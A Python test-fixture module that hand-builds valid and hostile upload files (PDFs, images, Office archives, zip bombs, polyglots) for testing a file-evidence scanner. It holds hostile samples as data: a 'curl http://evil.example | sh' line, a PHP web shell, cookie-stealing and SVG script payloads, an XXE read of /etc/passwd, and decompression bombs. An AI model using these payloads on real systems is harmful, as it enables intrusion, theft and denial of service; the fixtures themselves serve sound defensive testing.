"""Builders of test files, made in code at test time: nothing is downloaded and no binary is committed.

Each builder returns bytes (or writes a path for the big ones). They are small and deliberately hand-made so a
reader can see exactly which bytes make a file valid, hostile or both.
"""

from __future__ import annotations

import io
import os
import struct
import zipfile
import zlib
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from PIL import Image, ImageCms, ImageDraw
from PIL.PngImagePlugin import PngInfo

from kla.evidence import scanning

MiB = 1024 * 1024

# EICAR is assembled from two halves so this repository never contains the literal string scanners look for.
eicar = scanning.eicar


# --- PDF ---------------------------------------------------------------------------------------------------------


def pdf(pages: int = 2, *, text: str = "Bukti dukung KLA", open_action_js: bool = False) -> bytes:
    """A minimal valid PDF 1.4 with one line of Helvetica text per page and a correct xref table."""
    catalog = b"<< /Type /Catalog /Pages 2 0 R"
    if open_action_js:
        catalog += b" /OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>"
    objects: dict[int, bytes] = {
        1: catalog + b" >>",
        3: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    }
    kids = []
    for i in range(pages):
        page_id, content_id = 4 + 2 * i, 5 + 2 * i
        stream = f"BT /F1 12 Tf 72 720 Td ({text} {i + 1}) Tj ET".encode()
        objects[content_id] = b"<< /Length %d >>\nstream\n%s\nendstream" % (len(stream), stream)
        objects[page_id] = (
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents %d 0 R"
            b" /Resources << /Font << /F1 3 0 R >> >> >>" % content_id
        )
        kids.append(b"%d 0 R" % page_id)
    objects[2] = b"<< /Type /Pages /Kids [%s] /Count %d >>" % (b" ".join(kids), pages)
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number in sorted(objects):
        offsets[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, objects[number])
    xref_at = len(out)
    size = max(objects) + 1
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for number in range(1, size):
        out += b"%010d 00000 n \n" % offsets[number]
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (size, xref_at)
    return bytes(out)


def truncated_pdf() -> bytes:
    """An upload cut off halfway: header and some objects, no xref, no %%EOF."""
    whole = pdf(pages=3)
    return whole[: len(whole) // 2]


def pdf_header_then_garbage() -> bytes:
    return b"%PDF-1.7\n" + bytes(range(256)) * 8 + b"\n%%EOF\n"


def encrypted_pdf() -> bytes:
    from pypdf import PdfWriter

    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    writer.encrypt("rahasia", algorithm="RC4-128")  # RC4 needs no optional crypto package
    buf = io.BytesIO()
    writer.write(buf)
    return buf.getvalue()


# --- images ------------------------------------------------------------------------------------------------------

GPS_LATITUDE = (6.0, 10.0, 30.0)  # a school in Jakarta, say: exactly what must not leak
XMP = (
    b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
    b'<rdf:Description xmlns:exif="http://ns.adobe.com/exif/1.0/" exif:GPSLatitude="6,10.5S"/></rdf:RDF></x:xmpmeta>'
)


def _picture(size: tuple[int, int], mode: str = "RGB") -> Image.Image:
    im = Image.new(mode, size, "white")
    draw = ImageDraw.Draw(im)
    draw.rectangle((0, 0, size[0] // 2, size[1] // 2), fill="red")  # top-left marker, to check the orientation
    return im


def camera_exif(
    *, orientation: int = 1, original: str | None = "2024:07:23 09:15:00", offset: str | None = "+07:00"
) -> Image.Exif:
    """EXIF as a phone writes it: make/model, orientation, capture time, body serial number and a GPS position."""
    exif = Image.Exif()
    exif[0x010F] = "PonselKamera"
    exif[0x0110] = "Model X"
    exif[0x0112] = orientation
    exif[306] = "2024:07:01 08:00:00"  # DateTime (last edit)
    sub = exif.get_ifd(0x8769)
    if original is not None:
        sub[36867] = original  # DateTimeOriginal
    if offset is not None:
        sub[36881] = offset  # OffsetTimeOriginal
    sub[0xA431] = "SN-0042-ANAK"  # BodySerialNumber
    gps = exif.get_ifd(0x8825)
    gps[1], gps[2], gps[3], gps[4] = "S", GPS_LATITUDE, "E", (106.0, 49.0, 0.0)
    return exif


def srgb_icc() -> bytes:
    return ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()


def jpeg(size: tuple[int, int] = (40, 20), **exif_options: Any) -> bytes:
    """A JPEG with camera EXIF incl. GPS, XMP, an ICC profile and a comment."""
    buf = io.BytesIO()
    _picture(size).save(
        buf,
        "JPEG",
        exif=camera_exif(**exif_options),
        icc_profile=srgb_icc(),
        comment=b"Lokasi: SD Negeri 1, Jl. Anak Bangsa",
        xmp=XMP,
    )
    return buf.getvalue()


def plain_jpeg(size: tuple[int, int] = (16, 16)) -> bytes:
    buf = io.BytesIO()
    _picture(size).save(buf, "JPEG")
    return buf.getvalue()


def png(size: tuple[int, int] = (24, 16), *, text: str | None = None, exif: bool = False) -> bytes:
    info = PngInfo()
    if text is not None:
        info.add_text("Comment", text)
        info.add_itxt("Description", text)
    buf = io.BytesIO()
    _picture(size, "RGBA").save(buf, "PNG", pnginfo=info, exif=camera_exif() if exif else None)
    return buf.getvalue()


def webp(size: tuple[int, int] = (24, 16), *, exif: bool = False) -> bytes:
    buf = io.BytesIO()
    options: dict[str, object] = {"exif": camera_exif()} if exif else {}
    _picture(size).save(buf, "WEBP", quality=80, **options)
    return buf.getvalue()


HTML_PAYLOAD = b"<html><body><script>alert(document.cookie)</script></body></html>"


def png_html_polyglot() -> bytes:
    """A valid PNG that is also HTML: the page hides in a text chunk and again after IEND."""
    return png(text=HTML_PAYLOAD.decode()) + HTML_PAYLOAD


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_claiming(width: int, height: int) -> bytes:
    """A tiny PNG whose IHDR claims a huge canvas (pixel flood): a few dozen bytes, gigabytes once decoded."""
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", ihdr)
        + _png_chunk(b"IDAT", zlib.compress(b"\x00" * 64))
        + _png_chunk(b"IEND", b"")
    )


def truncated_jpeg() -> bytes:
    whole = plain_jpeg((64, 64))
    return whole[: len(whole) // 2]


# --- Office archives ---------------------------------------------------------------------------------------------

_CT_HEAD = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
)
_MAIN = {
    "docx": ("word/document.xml", "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"),
    "docm": ("word/document.xml", "application/vnd.ms-word.document.macroEnabled.main+xml"),
    "xlsx": ("xl/workbook.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"),
    "pptx": (
        "ppt/presentation.xml",
        "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml",
    ),
}
_BODY = {
    "word/document.xml": b'<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/'
    b'wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>SK Gugus Tugas KLA</w:t></w:r></w:p></w:body></w:document>',
    "xl/workbook.xml": b'<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/'
    b'2006/main"><sheets><sheet name="Data" sheetId="1"/></sheets></workbook>',
    "ppt/presentation.xml": b'<?xml version="1.0"?><p:presentation xmlns:p="http://schemas.openxmlformats.org/'
    b'presentationml/2006/main"/>',
}


def ooxml_members(kind: str = "docx", *, content_type: str | None = None) -> dict[str, bytes]:
    main_part, main_type = _MAIN[kind]
    content_types = _CT_HEAD + f'<Override PartName="/{main_part}" ContentType="{content_type or main_type}"/></Types>'
    return {
        "[Content_Types].xml": content_types.encode(),
        "_rels/.rels": b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
        b'relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships/officeDocument" Target="' + main_part.encode() + b'"/></Relationships>',
        main_part: _BODY[main_part],
    }


def zip_of(members: dict[str, bytes], *, stored: tuple[str, ...] = ()) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in members.items():
            zf.writestr(zipfile.ZipInfo(name), data, zipfile.ZIP_STORED if name in stored else zipfile.ZIP_DEFLATED)
    return buf.getvalue()


def docx(**extra: bytes) -> bytes:
    return zip_of(ooxml_members("docx") | extra)


def xlsx() -> bytes:
    return zip_of(ooxml_members("xlsx") | {"xl/worksheets/sheet1.xml": b"<worksheet/>"})


def pptx() -> bytes:
    return zip_of(ooxml_members("pptx") | {"ppt/slides/slide1.xml": b"<sld/>"})


def odf(mimetype: str = "application/vnd.oasis.opendocument.text", **extra: bytes) -> bytes:
    members = {
        "mimetype": mimetype.encode(),
        "content.xml": b'<?xml version="1.0"?><office:document-content xmlns:office="urn:oasis:names:tc:'
        b'opendocument:xmlns:office:1.0"><office:body/></office:document-content>',
        "META-INF/manifest.xml": b'<?xml version="1.0"?><manifest:manifest xmlns:manifest="urn:oasis:names:tc:'
        b'opendocument:xmlns:manifest:1.0"/>',
    }
    return zip_of(members | extra, stored=("mimetype",))


def ods() -> bytes:
    return odf("application/vnd.oasis.opendocument.spreadsheet")


def docm() -> bytes:
    """A macro-enabled Word file (what a .docm renamed to .docx looks like inside)."""
    return zip_of(ooxml_members("docm") | {"word/vbaProject.bin": ole2_with_vba()})


def ole2_with_vba() -> bytes:
    """Just enough of an OLE2 compound file to carry the directory name of a VBA project."""
    return OLE2_MAGIC + bytes(504) + "_VBA_PROJECT".encode("utf-16-le") + bytes(64)


OLE2_MAGIC = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"


def ole2() -> bytes:
    return OLE2_MAGIC + bytes(504)


def plain_zip() -> bytes:
    return zip_of({"foto/kegiatan1.jpg": plain_jpeg(), "catatan.txt": b"arsip biasa"})


def pdf_zip_polyglot() -> bytes:
    """A valid PDF with a DOCX appended: PDF readers and ZIP readers both open it."""
    return pdf() + docx()


def pdf_with_fake_zip_directory(entries: int = 200_000) -> bytes:
    """A PDF followed by a ZIP central directory of many empty entries (what a parser would build objects for)."""
    entry = struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 20, 20, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0)
    directory = entry * entries
    whole = pdf()
    end = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, 0xFFFF, 0xFFFF, len(directory), len(whole), 0)
    return whole + directory + end


def pdf_with_stray_zip_bytes() -> bytes:
    """A PDF whose last bytes happen to contain an end-of-central-directory signature but no archive."""
    return pdf() + b"%PK\x05\x06" + bytes(18) + b"\n"


def zip_starting_with_pdf() -> bytes:
    """A DOCX whose first (stored) member is a PDF, so `%PDF-` sits in the first 1024 bytes of the archive."""
    members = {"aaa.pdf": pdf(pages=1)} | ooxml_members("docx")
    return zip_of(members, stored=("aaa.pdf",))


# --- raw ZIP writer, for archives zipfile refuses to write -------------------------------------------------------


@dataclass(frozen=True)
class RawMember:
    name: str
    data: bytes  # the bytes as they sit in the archive (compressed/encrypted already)
    crc: int
    size: int  # declared uncompressed size
    method: int = zipfile.ZIP_DEFLATED
    flags: int = 0
    external_attr: int = 0


def raw_deflate(data: bytes) -> bytes:
    packer = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    return packer.compress(data) + packer.flush()


def member(name: str, data: bytes, *, declared_size: int | None = None, **options: int) -> RawMember:
    return RawMember(
        name, raw_deflate(data), zlib.crc32(data), len(data) if declared_size is None else declared_size, **options
    )


def raw_zip(members: list[RawMember]) -> bytes:
    out = bytearray()
    directory = bytearray()
    for m in members:
        name = m.name.encode()
        offset = len(out)
        out += struct.pack(
            "<4sHHHHHIIIHH", b"PK\x03\x04", 20, m.flags, m.method, 0, 0x21, m.crc, len(m.data), m.size, len(name), 0
        )
        out += name + m.data
        directory += struct.pack(
            "<4sHHHHHHIIIHHHHHII",
            b"PK\x01\x02",
            0x031E,  # made by: Unix, so external_attr carries the file mode
            20,
            m.flags,
            m.method,
            0,
            0x21,
            m.crc,
            len(m.data),
            m.size,
            len(name),
            0,
            0,
            0,
            0,
            m.external_attr,
            offset,
        )
        directory += name
    start = len(out)
    out += directory
    out += struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, len(members), len(members), len(directory), start, 0)
    return bytes(out)


def ooxml_raw(*extra: RawMember, kind: str = "docx") -> bytes:
    return raw_zip([member(n, d) for n, d in ooxml_members(kind).items()] + list(extra))


def docx_member_named(name: str) -> bytes:
    return ooxml_raw(member(name, b"<x/>"))


def docx_with_symlink() -> bytes:
    return ooxml_raw(member("word/media/image1.png", b"/etc/passwd", external_attr=0o120777 << 16))


def docx_lying_about_size() -> bytes:
    """A member that declares 1 KB and inflates to 50 MB: only a running cap while inflating catches it."""
    return ooxml_raw(member("word/media/big.xml", bytes(50 * MiB), declared_size=1000))


def docx_bad_crc() -> bytes:
    good = member("word/comments.xml", b"<comments/>")
    return ooxml_raw(RawMember(good.name, good.data, good.crc ^ 0xFFFF, good.size))


def docx_bzip2_member() -> bytes:
    import bz2

    data = b"<x/>" * 100
    return ooxml_raw(RawMember("word/x.xml", bz2.compress(data), zlib.crc32(data), len(data), zipfile.ZIP_BZIP2))


def write_docx_zip_bomb(path: Path, *, member_mib: int = 300, declared_size: int | None = None) -> None:
    """`word/document.xml` of `member_mib` MiB of zeros, deflated to ~0.1 % of that, built in well under a second.

    `declared_size` makes the headers lie about the inflated size (and the CRC is then that of the real data).

    The deflate stream is one fully flushed 1 MiB segment repeated: after a full flush the compressor starts afresh,
    so identical input gives identical bytes and the segments can simply be concatenated.
    """
    zeros = bytes(MiB)
    packer = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    segment = packer.compress(zeros) + packer.flush(zlib.Z_FULL_FLUSH)
    stream = segment * member_mib + zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS).flush()
    crc = 0
    for _ in range(member_mib):
        crc = zlib.crc32(zeros, crc)
    members = [member(n, d) for n, d in ooxml_members("docx").items() if n != "word/document.xml"]
    size = member_mib * MiB if declared_size is None else declared_size
    members.append(RawMember("word/document.xml", stream, crc, size))
    path.write_bytes(raw_zip(members))


def _zipcrypto(plain: bytes, password: bytes, check_byte: int) -> bytes:
    """Traditional PKWARE encryption (APPNOTE 6.1), enough for zipfile to decrypt it with the password."""

    def crc_step(value: int, byte: int) -> int:
        return zlib.crc32(bytes([byte]), value ^ 0xFFFFFFFF) ^ 0xFFFFFFFF

    keys = [0x12345678, 0x23456789, 0x34567890]

    def update(byte: int) -> None:
        keys[0] = crc_step(keys[0], byte)
        keys[1] = ((keys[1] + (keys[0] & 0xFF)) * 134775813 + 1) & 0xFFFFFFFF
        keys[2] = crc_step(keys[2], keys[1] >> 24)

    for byte in password:
        update(byte)
    out = bytearray()
    for byte in os.urandom(11) + bytes([check_byte]) + plain:
        temp = (keys[2] | 2) & 0xFFFF
        out.append(byte ^ (((temp * (temp ^ 1)) >> 8) & 0xFF))
        update(byte)
    return bytes(out)


ZIP_PASSWORD = b"rahasia"


def encrypted_docx() -> bytes:
    """A DOCX whose members are encrypted with a password (flag bit 0x1)."""
    members = []
    for name, data in ooxml_members("docx").items():
        crc = zlib.crc32(data)
        sealed = _zipcrypto(raw_deflate(data), ZIP_PASSWORD, crc >> 24)
        members.append(RawMember(name, sealed, crc, len(data), flags=0x1))
    return raw_zip(members)


# --- video, text, and things that are not evidence ---------------------------------------------------------------


def mp4() -> bytes:
    return (
        b"\x00\x00\x00\x18ftypisom\x00\x00\x02\x00isomiso2"
        + b"\x00\x00\x00\x08free"
        + b"\x00\x00\x00\x10mdat"
        + bytes(8)
    )


def iso_media(brand: bytes) -> bytes:
    return b"\x00\x00\x00\x18ftyp" + brand + b"\x00\x00\x00\x00" + brand + b"mif1" + b"\x00\x00\x00\x08mdat"


def webm(doctype: bytes = b"webm") -> bytes:
    body = b"\x42\x86\x81\x01\x42\xf7\x81\x01\x42\xf2\x81\x04\x42\xf3\x81\x08"
    body += b"\x42\x82" + bytes([0x80 | len(doctype)]) + doctype + b"\x42\x87\x81\x04\x42\x85\x81\x02"
    return b"\x1a\x45\xdf\xa3" + bytes([0x80 | len(body)]) + body + b"\x18\x53\x80\x67\x01" + bytes(7)


CSV_TEXT = "Indikator;Status;Keterangan\n1;Ada;Perda KLA Kabupaten Bantul\n17;Ya;Forum Anak Daerah — aktif\n"


def csv_utf8() -> bytes:
    return CSV_TEXT.encode("utf-8")


def csv_latin1() -> bytes:
    return "Kecamatan;Catatan\nSéwon;Posyandu ramah anak\n".encode("latin-1")


def csv_with_nul_after_head() -> bytes:
    return CSV_TEXT.encode() * 400 + b"\x00" + CSV_TEXT.encode()


def windows_exe() -> bytes:
    dos = bytearray(0x80)
    dos[0:2] = b"MZ"
    dos[0x3C:0x40] = struct.pack("<I", 0x80)
    dos[0x40:0x67] = b"This program cannot be run in DOS mode."
    return bytes(dos) + b"PE\x00\x00" + struct.pack("<HHIIIHH", 0x14C, 1, 0, 0, 0, 0xE0, 0x102) + bytes(0xE0)


def elf() -> bytes:
    return b"\x7fELF\x02\x01\x01\x00" + bytes(8) + struct.pack("<HHI", 2, 0x3E, 1) + bytes(40)


def html_page() -> bytes:
    return b"<!DOCTYPE html>\n<html><head><title>Laporan</title></head><body><script>alert(1)</script></body></html>\n"


def html_fragment() -> bytes:
    return b"  <div>Laporan</div><script src=//evil.example/x.js></script>"


def svg_with_script() -> bytes:
    return (
        b'<?xml version="1.0" encoding="UTF-8"?>\n'
        b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10" onload="alert(1)">'
        b"<script>alert(document.domain)</script></svg>\n"
    )


def shell_script() -> bytes:
    return b"#!/bin/sh\ncurl http://evil.example | sh\n"


def php_script() -> bytes:
    return b"<?php system($_GET['c']); ?>\n"


def xml_document() -> bytes:
    return b'<?xml version="1.0"?>\n<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'


def gif() -> bytes:
    return b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff!\xf9\x04\x01\x00\x00\x00\x00,\x00\x00\x00\x00"


def tiff() -> bytes:
    return b"II*\x00\x08\x00\x00\x00" + bytes(16)


def rar() -> bytes:
    return b"Rar!\x1a\x07\x01\x00" + bytes(16)


def seven_zip() -> bytes:
    return b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(24)


def unknown_binary() -> bytes:
    return bytes(range(256))
